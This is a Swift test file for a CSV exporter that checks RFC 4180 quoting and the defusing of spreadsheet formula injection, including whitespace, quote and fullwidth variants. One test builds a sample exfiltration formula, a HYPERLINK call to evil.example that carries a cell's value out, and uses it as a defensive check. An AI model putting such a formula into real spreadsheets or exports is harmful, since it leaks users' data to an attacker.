import Testing
@testable import DeskCore
@testable import DeskEngine
@testable import DeskStore

@Suite("CSV cells: RFC 4180 quoting and formula defusing")
struct CSVCellTests {
    @Test(arguments: ["=", "+", "-", "@", "\t", "\r"])
    func aCellStartingWithAFormulaCharacterGetsAQuote(start: String) {
        let value = start + "HYPERLINK(\"http://evil.example/?\"&A1)"
        #expect(CSV.defused(value) == "'" + value)
        #expect(CSV.cell(value) == CSV.quoted("'" + value))
        #expect(CSV.cell(start + "1+1") == (start == "\r" ? "\"'\r1+1\"" : "'" + start + "1+1"))
    }

    @Test func crlfAtTheStartIsDefusedAndQuoted() {
        #expect(CSV.cell("\r\n=1+1") == "\"'\r\n=1+1\"")
    }

    @Test func harmlessCellsAreUnchanged() {
        for value in ["", "2026-11-23", "obj-1", "a=b", "'quoted", "ümlaut", "１+1", "  ", "\"quoted\"", " a=1", "\u{3000}x"] {
            #expect(CSV.defused(value) == value)
        }
    }

    /// Spreadsheets skip leading blanks and quotes before reading a formula, take a leading line
    /// feed like a carriage return, and read fullwidth signs as their ASCII forms.
    @Test(arguments: [" =1+1", "  +1", "\"=1+1", " \"@SUM(A1)", "\"\"-1", "\n=1+1", "\n", "＝1+1", "＋1", "－1", "＠SUM(A1)",
                      " ＝1", "\u{3000}=1", "\u{A0}=1", "﹦1"])
    func formulaStartsBehindBlanksQuotesOrInFullwidthAreDefused(value: String) {
        #expect(CSV.defused(value) == "'" + value)
    }

    @Test func quotingIsOnlyWhatTheFormatRequires() {
        #expect(CSV.cell("plain") == "plain")
        #expect(CSV.cell("a,b") == "\"a,b\"")
        #expect(CSV.cell("say \"hi\"") == "\"say \"\"hi\"\"\"")
        #expect(CSV.cell("two\nlines") == "\"two\nlines\"")
        #expect(CSV.cell("-5,3") == "\"'-5,3\"")
    }

    @Test func aLineDefusesEveryCellAndEndsWithCRLF() {
        #expect(CSV.line(["=1", "x", "@me"]) == "'=1,x,'@me\r\n")
    }
}
